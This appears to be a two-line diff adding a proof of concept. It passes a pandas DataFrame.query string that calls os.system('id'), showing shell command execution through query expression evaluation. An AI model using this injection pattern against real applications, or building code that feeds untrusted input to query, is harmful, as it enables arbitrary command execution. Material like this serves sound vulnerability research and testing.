@@ -1,0 +1,2 @@
+import pandas as pd
+pd.DataFrame().query('@pd.compat.os.system("id")')
